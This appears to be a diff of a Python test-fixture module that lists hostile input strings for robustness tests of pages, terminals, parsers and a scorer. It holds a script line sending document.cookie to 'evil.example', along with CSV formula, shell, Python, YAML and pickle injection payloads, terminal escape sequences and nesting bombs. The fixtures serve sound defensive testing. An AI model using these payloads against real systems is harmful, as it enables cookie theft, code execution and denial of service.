@@ -1,4 +1,4 @@
-"""Texts that try to break a page, a terminal or a file."""
+"""Texts that try to break a page, a terminal or a file, and texts that try to break a scorer."""
 
 from __future__ import annotations
 
@@ -34,4 +34,64 @@ HOSTILE: dict[str, str] = {
     "markup": "[bold red]x[/bold red] | `a` | **b**",
     "quotes": '"\'`\\" \\u003c \\',
     "blank": " \n ",
+    "refresh": '<meta http-equiv="refresh" content="0;url=http://127.0.0.1:9/">',
+    "frame": '<iframe srcdoc="<script>parent.broken = 1</script>"></iframe>',
+    "base": '<base href="http://127.0.0.1:9/"><link rel="stylesheet" href="x">',
+    "form": '<form action="http://127.0.0.1:9/"><button autofocus onfocus="window.broken = 1">',
+    "formula": "=cmd|' /C calc'!A1",
+    "formula signs": "+1+1\n-1+1\n@SUM(1)\t=1",
+    "clipboard": "\x1b]52;c;b3duZWQ=\x07",
+    "device control": "\x1bP$q q\x1b\\\x1b_apc\x1b\\\x1b^pm\x1b\\",
+    "terminal answers": "\x1b[6n\x1b[c\x1b[21t\x05",
+    "format": "%s%s%n %(broken)s {0.__class__.__mro__} {broken!r:>{y}}",
+    "environment": "$HOME ${PATH} %PATH% $(touch owned) `touch owned`",
+    "grapheme": "👩" + "\u200d👩" * 20_000,
+    "nested json": '{"a":' * 50_000,
+    "json end": '"}], "broken": [{"a": "',
+    "non-characters": "\ufffe\uffff\U0010ffff",
+    "annotation": "\ufff9seen\ufffahidden\ufffb",
+    "variation": "a\ufe0f\U000e0100",
 }
+
+SCORED: dict[str, str] = {
+    "script": "<script>fetch('//evil.example/'+document.cookie)</script>",
+    "image": "<img src=x onerror=alert(1)>",
+    "template": "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
+    "format": "%s%s%n {0.__class__.__mro__} {x!r:>{y}}",
+    "sql": "'; DROP TABLE scores; --",
+    "shell": "$(touch owned) `touch owned` ; touch owned",
+    "python": "__import__('os').system('touch owned')",
+    "yaml": "!!python/object/apply:os.system ['touch owned']",
+    "pickle": "cos\nsystem\n(S'touch owned'\ntR.",
+    "billion laughs": '<!DOCTYPE x [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]>&b;',
+    "ansi": "\x1b[2J\x1b]0;owned\x07\x1b[31m",
+    "controls": "".join(map(chr, range(32))) + "\x7f\x80\x9f",
+    "nul": "a\0b\0",
+    "bidi": "\u202e\u2066\u2069\u200f\u061c evil \u202c",
+    "invisible": "\u200b\u200c\u200d\u2060\ufeff\u00ad",
+    "high surrogate": "\ud800",
+    "low surrogate": "x\udfffy",
+    "swapped pair": "\udc00\ud800",
+    "non-characters": "\ufffe\uffff\U0010ffff",
+    "zalgo": "Z" + "\u0300" * 500,
+    "line ends": "a\rb\r\nc\x0bd\x0ce\x1cf\u2028g\u2029h\u0085",
+    "tags": "\U000e0041\U000e007f",
+    "digits": "٣１²½Ⅷ",
+    "json bomb": '{"a":' * 5000,
+    "json numbers": "[1e999, -1e999, 1E-999]",
+    "json keys": '{"__proto__": {}, "a": 1, "a": 2}',
+    "open fence": "```python\n",
+    "python depth": "(" * 3000 + ")" * 3000,
+    "python chain": "a" + ".b" * 5000,
+    "f-string": "f'{" * 200,
+    "encoding line": "# -*- coding: utf-7 -*-\n+AG8-",
+    "toml depth": "a = " + "{b=" * 3000,
+    "url": "https://a:b@[::1]:99999/%00?x=\\#",
+    "mail": "a@" * 2000 + "b",
+}
+LONG: dict[str, str] = {
+    "letters": "a", "words": "word ", "lines": "\n", "brackets": "(", "quotes": '"', "urls": "://a:", "keys": '{"a":',
+    "surrogates": "\ud83d", "accents": "e\u0301", "stops": "a.",
+}  # fmt: skip
+SIZES = {"words": 10_000_000, "surrogates": 10_000_000}
+LEAST = 1_100_000  # beyond what the parsers read
